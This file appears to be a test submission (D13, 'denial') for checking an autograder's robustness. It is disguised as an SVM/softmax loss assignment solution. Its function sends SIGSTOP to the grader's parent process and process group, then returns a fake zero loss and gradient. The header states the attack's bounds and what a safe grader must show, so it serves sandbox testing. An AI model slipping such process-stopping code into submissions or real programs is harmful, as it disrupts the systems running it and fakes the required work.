"""id: D13
category: denial
attempts: SIGSTOP to the parent and to its process group.
BOUND: SIGSTOP only (never SIGKILL, never pid -1); harness sends SIGCONT
safe grader must show: grader survives; ended within the limits; no process, file or mount left behind; no other submission affected
"""
import os, signal

import numpy as np
def svm_loss_vectorized(W, X, y, reg):
    
    for f, a in ((os.kill, os.getppid()), (os.killpg, os.getpgid(os.getppid()) if os.getppid() > 1 else 0)):
        try:
            if a > 0: f(a, signal.SIGSTOP); print("BREACH stopped", a)
        except OSError as e: print("no", e)
    return 0.0, np.zeros_like(W)
def softmax_loss_vectorized(W, X, y, reg):
    return svm_loss_vectorized(W, X, y, reg)
